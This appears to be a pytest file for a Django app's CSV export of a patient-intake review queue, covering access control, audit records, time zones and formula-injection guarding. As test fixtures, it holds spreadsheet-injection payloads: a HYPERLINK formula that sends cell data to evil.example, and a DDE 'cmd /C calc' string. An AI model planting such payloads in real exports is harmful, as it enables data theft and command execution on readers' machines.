import csv
import datetime
import io

import pytest
import time_machine
from django.utils import translation

from intake.models import AuditEvent, CoordinatorPreference, Submission
from intake.review.export import IdRanges, csv_lines, csv_safe, export_words
from tests.factories import URGENT_ANSWERS, SubmissionFactory
from tests.review.conftest import login_redirect

URL = "/review/export.csv"
ASKED = datetime.datetime(2026, 12, 3, 9, 30, tzinfo=datetime.UTC)


def text(response) -> str:
    return b"".join(response.streaming_content).decode()


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text(response))))


def test_it_sends_anonymous_users_to_the_login_page(client, submission):
    response = client.get(URL)
    assert response.url == login_redirect(URL)
    assert AuditEvent.objects.count() == 0


def test_it_refuses_staff_who_are_not_coordinators(staff_client, submission):
    assert staff_client.get(URL).status_code == 403
    assert AuditEvent.objects.count() == 0


def test_it_streams_the_queue_as_csv_to_coordinators(coordinator_client, submission):
    response = coordinator_client.get(URL)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="queue-')
    assert "no-store" in response["Cache-Control"]
    (row,) = rows(response)
    assert row["Reference"] == submission.reference
    assert row["Email"] == submission.contact_email


def test_it_refuses_post(coordinator_client):
    assert coordinator_client.post(URL).status_code == 405


def test_values_are_in_words_not_codes(coordinator_client, coordinator):
    SubmissionFactory(
        answer_overrides={"disease": "mm", "transplant_eligible": ""},
        review_status="in_review",
        assignee=coordinator,
        country="FR",
        contact_language="es",
    )
    (row,) = rows(coordinator_client.get(URL))
    assert row["Disease"] == "Multiple myeloma"
    assert row["Status"] == "In review"
    assert row["Urgent"] == "No"
    assert row["Country"] == "France"
    assert row["Preferred language"] == "Spanish"
    assert row["Assigned to"] == "Nora Navigator"


def test_words_are_in_the_language_active_when_the_export_was_asked_for(db):
    submission = SubmissionFactory()
    with translation.override("es"):
        columns = export_words(datetime.UTC)
    ids = IdRanges.from_sorted([submission.pk])
    # Streamed later, in whatever language is active then.
    with translation.override("en"):
        lines = "".join(csv_lines(Submission.objects.queue(), columns, ids))
    (row,) = csv.DictReader(io.StringIO(lines))
    assert row["Estado"] == "Nuevo"
    assert row["Enfermedad"] == "Linfoma de células B grandes"


def test_times_are_in_the_team_time_zone_named_in_the_headings(
    coordinator_client, settings
):
    settings.COORDINATOR_TIME_ZONE = "America/New_York"
    SubmissionFactory(submitted_at=ASKED)
    (row,) = rows(coordinator_client.get(URL))
    assert row["Asked to be contacted (America/New_York)"] == "2026-12-03 04:30"
    assert row["First contacted (America/New_York)"] == ""


def test_a_coordinators_own_time_zone_wins_over_the_teams(
    coordinator_client, coordinator, settings
):
    settings.COORDINATOR_TIME_ZONE = "America/New_York"
    CoordinatorPreference.objects.create(user=coordinator, time_zone="Asia/Tokyo")
    SubmissionFactory(submitted_at=ASKED)
    (row,) = rows(coordinator_client.get(URL))
    assert row["Asked to be contacted (Asia/Tokyo)"] == "2026-12-03 18:30"


def test_it_exports_the_filtered_queue_in_queue_order(coordinator_client):
    SubmissionFactory(answer_overrides={"disease": "mm", "transplant_eligible": ""})
    later = SubmissionFactory()
    urgent = SubmissionFactory(answer_overrides=URGENT_ANSWERS)
    SubmissionFactory(stage="draft")
    response = coordinator_client.get(URL, {"disease": "lbcl"})
    assert [r["Reference"] for r in rows(response)] == [
        urgent.reference,
        later.reference,
    ]


def test_each_export_writes_one_audit_record_naming_the_filter_and_the_submissions(
    coordinator_client, coordinator
):
    exported = SubmissionFactory.create_batch(3)
    SubmissionFactory(answer_overrides={"disease": "mm", "transplant_eligible": ""})
    rows(coordinator_client.get(URL, {"disease": "lbcl", "urgent": "no"}))
    event = AuditEvent.objects.get()
    assert (event.action, event.user, event.submission_id) == (
        "export",
        coordinator,
        None,
    )
    assert event.detail == "disease=lbcl&urgent=no"
    assert list(IdRanges.parse(event.submission_ids)) == sorted(s.pk for s in exported)


def test_the_audit_record_names_submissions_apart_when_their_ids_are_not_in_a_row(
    coordinator_client,
):
    first, skipped, last = SubmissionFactory.create_batch(3)
    Submission.objects.filter(pk=skipped.pk).update(review_status="closed")
    rows(coordinator_client.get(URL))
    assert AuditEvent.objects.get().submission_ids == f"{first.pk},{last.pk}"


def test_a_row_not_in_the_audited_list_is_not_exported(db):
    kept, arrived_later = SubmissionFactory.create_batch(2)
    columns = export_words(datetime.UTC)
    lines = "".join(
        csv_lines(Submission.objects.queue(), columns, IdRanges.parse(str(kept.pk)))
    )
    assert kept.reference in lines
    assert arrived_later.reference not in lines


def test_an_export_of_everything_open_says_so(coordinator_client, submission):
    rows(coordinator_client.get(URL))
    assert AuditEvent.objects.get().detail == "status=open"


def test_invalid_filters_are_left_out_not_a_failure(coordinator_client, submission):
    response = coordinator_client.get(URL, {"disease": "flu", "waiting": "x"})
    assert response.status_code == 200
    assert [r["Reference"] for r in rows(response)] == [submission.reference]


def test_phone_numbers_stay_as_typed_and_formulas_are_made_safe(coordinator_client):
    SubmissionFactory(
        contact_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        contact_phone="+1 202 555 0199",
        contact_time="@SUM(1+1)",
        contact_email="-2+3@example.org",
    )
    SubmissionFactory(contact_phone="+cmd|' /C calc'!A0")
    first, second = rows(coordinator_client.get(URL))
    assert first["Name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert first["Phone"] == "+1 202 555 0199"
    assert first["Preferred time"] == "'@SUM(1+1)"
    assert first["Email"] == "'-2+3@example.org"
    assert second["Phone"] == "'+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("+1 (202) 555-0199", "+1 (202) 555-0199"),
        ("+44 20 7946 0958", "+44 20 7946 0958"),
        ("-1", "-1"),
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("@x", "'@x"),
        ("\t+1 202", "'\t'+1 202"),
        ("+1 202\r=1", "'+1 202\r'=1"),
        ("+1;=1", "'+1;'=1"),
    ],
)
def test_a_phone_number_keeps_its_plus_and_anything_else_is_guarded(value, safe):
    assert csv_safe(value, phone=True) == safe


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Pat", "Pat"),
        (" =1+1", "' =1+1"),
        ("Pat, =1+1", "Pat, '=1+1"),
        ("mornings;@SUM(A1)", "mornings;'@SUM(A1)"),
        ("x\n-2+3", "x\n'-2+3"),
        ("202-555-0199", "202-555-0199"),
        ("+1 202 555 0199", "'+1 202 555 0199"),
        ("a, b; c", "a, b; c"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_csv_safe_prefixes_a_quote_only_where_needed(value, safe):
    assert csv_safe(value) == safe


def test_every_cell_is_quoted_so_a_separator_in_a_cell_starts_no_new_cell(
    coordinator_client,
):
    SubmissionFactory(contact_name="Pat, =1+1", contact_time="mornings")
    header, line = text(coordinator_client.get(URL)).splitlines()
    assert header.startswith('"Reference","Status",')
    assert '"Pat, \'=1+1"' in line
    assert '"mornings"' in line
    assert line.startswith('"') and line.endswith('"')
    assert line.count('","') == header.count('","')


def test_the_stream_comes_in_chunks_of_whole_lines(db):
    made = SubmissionFactory.create_batch(5)
    ids = IdRanges.from_sorted(sorted(s.pk for s in made))
    columns = export_words(datetime.UTC)
    chunks = list(
        csv_lines(Submission.objects.queue(), columns, ids, lines_per_chunk=2)
    )
    assert [chunk.count("\r\n") for chunk in chunks] == [1, 2, 2, 1]


@pytest.mark.parametrize(
    ("ids", "written"),
    [
        ([], ""),
        ([7], "7"),
        ([3, 4, 5, 6, 7, 9], "3-7,9"),
        ([1, 3, 5], "1,3,5"),
        ([2, 2, 3], "2-3"),
    ],
)
def test_id_ranges_write_every_id_and_read_back_the_same(ids, written):
    ranges = IdRanges.from_sorted(ids)
    assert str(ranges) == written
    assert list(IdRanges.parse(written)) == sorted(set(ids))
    assert len(ranges) == len(set(ids))
    assert all(pk in ranges for pk in ids)
    assert 8 not in ranges and 0 not in ranges


@time_machine.travel(ASKED, tick=False)
def test_the_file_is_named_with_the_coordinators_local_time(
    coordinator_client, coordinator
):
    CoordinatorPreference.objects.create(user=coordinator, time_zone="Asia/Tokyo")
    response = coordinator_client.get(URL)
    assert 'filename="queue-20261203-1830.csv"' in response["Content-Disposition"]


def test_an_unassigned_request_has_an_empty_assignee(coordinator_client, submission):
    (row,) = rows(coordinator_client.get(URL))
    assert row["Assigned to"] == ""
